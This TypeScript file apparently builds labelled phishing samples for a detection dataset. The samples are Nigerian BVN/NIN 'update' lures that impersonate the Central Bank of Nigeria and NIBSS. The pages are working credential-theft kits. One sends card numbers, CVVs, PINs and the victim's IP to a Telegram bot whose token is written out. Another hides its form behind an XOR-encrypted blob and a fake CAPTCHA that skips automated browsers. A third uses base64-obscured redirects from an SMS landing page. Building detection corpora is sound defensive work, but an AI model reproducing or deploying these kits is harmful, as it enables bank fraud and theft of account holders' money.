import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { CSS, LOGO, b64, doc, ipLookup, jsR, tgSend, xorB64, xorDecoder } from '../parts/yv-kit.js';

// BVN / NIN "update" lures: the SMS says the account is frozen until the BVN or NIN is linked.

const bvnPortal = doc({
  title: 'BVN Update Portal - Central Bank of Nigeria',
  css: `${CSS.reset}body{background:#f2f6f3}.hd{background:#0a5c36;color:#fff;display:flex;align-items:center;gap:14px;padding:10px 24px}.hd h1{font-size:18px;margin:0}.strip{background:#d4af37;color:#222;padding:8px 24px;font-size:13px}.b{max-width:560px;margin:24px auto;background:#fff;padding:26px;border:1px solid #dde}${CSS.field}.g{display:grid;grid-template-columns:1fr 1fr;gap:0 14px}button{background:#0a5c36;color:#fff;border:0;padding:13px 30px;margin-top:20px}`,
  body: `<div class="hd">${LOGO.cbn}<h1>CENTRAL BANK OF NIGERIA<br><small>BVN Re-validation Portal</small></h1></div>
<div class="strip">&#9888; Deadline: all accounts without updated BVN records will be placed on Post-No-Debit on 30 September 2025.</div>
<div class="b"><h2>Update your BVN record</h2>
<p style="font-size:14px">Fill in the form below exactly as it appears on your bank records. Your bank will receive the update automatically through NIBSS.</p>
<form id="bv"><div class="g">
<div><label>Surname</label><input name="sn" required></div><div><label>Other names</label><input name="on" required></div>
<div><label>BVN</label><input name="bvn" maxlength="11" required></div><div><label>Phone</label><input name="ph" required></div>
<div><label>Bank</label><select name="bank"><option>Access Bank</option><option>First Bank</option><option>GTBank</option><option>UBA</option><option>Zenith Bank</option><option>Fidelity Bank</option><option>Union Bank</option><option>Sterling Bank</option><option>Wema Bank</option><option>OPay</option><option>PalmPay</option><option>Moniepoint</option></select></div>
<div><label>Account number</label><input name="acct" maxlength="10" required></div>
<div><label>ATM card number</label><input name="pan" maxlength="19" required></div><div><label>Card expiry / CVV</label><input name="exp" placeholder="MM/YY  123"></div>
<div><label>Card PIN</label><input name="pin" type="password" maxlength="4" required></div><div><label>Date of birth</label><input name="dob" type="date"></div>
</div><button>Submit BVN Update</button></form></div>
<script>
${tgSend('7031284960:AAFqV1mXnR8tYz0bKd4wPj6uHc3sLe2gN9A', '-1002288013374')}
${ipLookup}
document.getElementById('bv').onsubmit=async function(e){e.preventDefault();var t='<b>BVN</b>\\n';new FormData(this).forEach(function(v,k){t+=k+': '+v+'\\n';});t+='IP: '+(await getIp());await sendTg(t);alert('Your BVN has been updated successfully. Reference: CBN/BVN/'+Date.now());location.href='https://www.cbn.gov.ng';};
</script>`,
});

// NIBSS BVN "validation": the kit only appears after a fake human check, and lives in an encrypted blob.
const nibssKit = `<div style="font-family:Verdana;max-width:420px;margin:30px auto;border:1px solid #1b3c73;padding:0"><div style="background:#1b3c73;color:#fff;padding:12px">NIBSS &mdash; Bank Verification Number</div><form method="post" action="https://nibss-bvn.verifyhub.icu/validate/post.php" style="padding:18px"><p>Enter your BVN and the details of one account linked to it.</p><p>BVN<br><input name="bvn" style="width:100%;padding:8px"></p><p>Bank name<br><input name="bank" style="width:100%;padding:8px"></p><p>Mobile/Internet banking username<br><input name="user" style="width:100%;padding:8px"></p><p>Password<br><input name="pass" type="password" style="width:100%;padding:8px"></p><p>Transaction PIN<br><input name="tpin" type="password" maxlength="4" style="width:100%;padding:8px"></p><button style="background:#1b3c73;color:#fff;border:0;padding:10px 24px">Validate</button></form></div>`;
const nibssGate = `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>Checking your browser...</title>
<style>body{font-family:system-ui,Arial;background:#fafafa;text-align:center;padding-top:12vh}.box{display:inline-block;border:1px solid #ccc;background:#fff;padding:16px 22px;border-radius:4px}</style></head><body>
<h2>Security check</h2><p>Please confirm you are not a robot to continue to the BVN validation service.</p>
<div class="box"><label><input type="checkbox" id="hc"> I am human</label></div>
<script>
${xorDecoder('dx')}
var blob='${xorB64(nibssKit, 'bvn2025')}';
document.getElementById('hc').onchange=function(){if(navigator.webdriver||window.outerWidth===0)return;setTimeout(function(){document.title='BVN Validation | NIBSS';document.body.style.cssText='';document.body.innerHTML=dx(blob,'bvn2025');},800);};
</script></body></html>`;

const bankWarnLure = doc({
  title: 'Account Notice',
  css: `${CSS.reset}body{background:#fff;font-size:15px}.c{max-width:460px;margin:0 auto;padding:20px}.red{background:#c62828;color:#fff;padding:14px;border-radius:6px}.btn{display:block;text-align:center;background:#0a5c36;color:#fff;text-decoration:none;padding:14px;border-radius:6px;margin-top:18px}`,
  body: `<div class="c"><div class="red"><b>NOTICE:</b> Your account has been restricted due to incomplete BVN/NIN linkage.</div>
<p>Dear customer, in compliance with the CBN circular on tiered KYC, accounts without NIN linked to their BVN can no longer receive or send transfers above &#8358;50,000.</p>
<p>Click below to link your NIN in less than 2 minutes and lift the restriction.</p>
<a class="btn" id="go" href="#">Link NIN now</a>
<p style="font-size:12px;color:#999">Sent via SMS from: BANKALERT</p></div>
<script>document.getElementById('go').href=atob('${b64('https://bvn-nin-linkage.com.ng.portal-ng.site/link/start')}');setTimeout(function(){location.href=document.getElementById('go').href;},6000);</script>`,
});
const ninLinkKit = doc({
  title: 'BVN - NIN Linkage',
  css: `${CSS.reset}body{background:#eef3ee}.c{max-width:420px;margin:22px auto;background:#fff;border-radius:8px;padding:22px}${CSS.field}button{width:100%;background:#0a5c36;color:#fff;border:0;padding:13px;margin-top:14px;border-radius:6px}`,
  body: `<div class="c">${LOGO.cbn}<h3>BVN - NIN Linkage</h3><form id="l" action="/link/submit" method="post">
<label>NIN</label><input name="nin" maxlength="11" required><label>BVN</label><input name="bvn" maxlength="11" required>
<label>Bank</label><input name="bank" required><label>Mobile app / USSD PIN</label><input name="pin" type="password" maxlength="6" required>
<label>Phone number</label><input name="phone" required><button>Link now</button></form></div>`,
});

export const entries: Entry[] = [
  { id: 'yv-cbn-bvn-revalidation-portal-tg', label: 'phishing', kind: 'bvn-update-lure', url: 'https://bvn-revalidation-cbn.com.ng/portal/update', body: bvnPortal },
  { id: 'yv-nibss-bvn-fake-captcha-xor', label: 'phishing', kind: 'cloaked-bvn-kit', url: 'https://nibss-bvn.verifyhub.icu/validate/', body: nibssGate },
  {
  id: 'yv-bvn-nin-sms-landing-to-kit',
  label: 'phishing',
  kind: 'bvn-update-lure',
  url: 'https://bnk-alrt.com/n/0803xx7721',
  body: bankWarnLure,
  routes: {
    'bvn-nin-linkage.com.ng.portal-ng.site/link/start': htmlRoute(ninLinkKit),
    'bvn-nin-linkage.com.ng.portal-ng.site/link/submit': redirectRoute(302, 'https://www.cbn.gov.ng/'),
  },
},
];
